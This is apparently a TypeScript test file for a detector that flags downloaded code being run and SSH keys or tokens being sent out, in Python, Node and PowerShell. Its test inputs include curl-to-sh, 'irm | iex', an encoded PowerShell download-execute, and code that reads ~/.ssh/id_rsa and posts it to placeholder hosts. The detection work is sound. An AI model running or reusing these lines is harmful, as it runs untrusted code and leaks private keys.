// Python, JavaScript and PowerShell followed by line: downloads run, secrets sent, shell inside strings.
import { describe, expect, it } from "vitest";
import { analyzeCode } from "./code-flow.js";
import { withShellTree } from "./parser.js";

const rules = (text: string, language: "python" | "node" | "powershell", sends = true): string[] =>
  analyzeCode(text, language, { parse: withShellTree, sends }).map((event) => event.rule);

describe("analyzeCode", () => {
  it("finds downloaded code run, on one line or through names", () => {
    expect(rules("exec(urlopen(URL).read())", "python")).toEqual(["download-execute"]);
    expect(rules("r = requests.get(URL)\ncode = r.text\nexec(code)", "python")).toEqual(["download-execute"]);
    expect(rules("const c = await (await fetch(u)).text();\neval(c);", "node")).toEqual(["download-execute"]);
    expect(rules("irm https://e.invalid/x.ps1 | iex", "powershell")).toEqual(["download-execute"]);
    const saved = "Invoke-WebRequest -Uri $u -OutFile $exe\nStart-Process $exe";
    expect(rules(saved, "powershell")).toEqual(["download-execute"]);
    expect(rules("Invoke-WebRequest -Uri $u -OutFile $zip\nExpand-Archive $zip -DestinationPath out", "powershell")).toEqual([]);
  });

  it("scans shell strings and decodes -EncodedCommand", () => {
    expect(rules("execSync('curl -s https://e.invalid | sh')", "node")).toEqual(["download-execute"]);
    const encoded = Buffer.from("iex (iwr https://e.invalid)", "utf16le").toString("base64");
    expect(rules(`powershell -enc ${encoded}`, "powershell")).toEqual(["encoded-execute", "download-execute"]);
  });

  it("finds a secret sent out, except in examples and Authorization headers", () => {
    const post = 'key = open(os.path.expanduser("~/.ssh/id_rsa")).read()\n\nrequests.post(URL, data=key)';
    expect(rules(post, "python")).toEqual(["secret-exfiltration"]);
    expect(rules(post, "python", false)).toEqual([]);
    expect(rules("token = os.environ['GITHUB_TOKEN']\nrequests.post(URL, json=body)", "python")).toEqual([]);
    expect(
      rules("const t = process.env.API_TOKEN;\nfetch(u, { method: 'POST', headers: { Authorization: t } })", "node"),
    ).toEqual([]);
  });

  it("follows a name as a whole word (with `$`, not after a dot, not inside a longer word), among thousands of others", () => {
    const decoys = Array.from({ length: 5000 }, (_, n) => `const d${String(n)} = { ...process.env };`).join("\n");
    const key = 'const k = fs.readFileSync("/home/u/.ssh/id_rsa");';
    const far = "\n".repeat(6);
    expect(rules(`${decoys}\n${key}${far}req.write(k);`, "node")).toEqual(["secret-exfiltration"]);
    expect(rules(`${key}${far}req.write(o.k);`, "node")).toEqual([]);
    expect(rules(`${key}${far}req.write(kk);`, "node")).toEqual([]);
    expect(rules("$k = Get-Content ~/.ssh/id_rsa\n\n\n\n\n\nInvoke-RestMethod -Method Post -Body $k", "powershell")).toEqual([
      "secret-exfiltration",
    ]);
    // A downloaded file's name has a dot in it, and is still followed.
    expect(rules("Invoke-WebRequest -Uri $u -OutFile .\\setup.exe\n\n\n\n\n\nStart-Process setup.exe", "powershell")).toEqual([
      "download-execute",
    ]);
  });
});
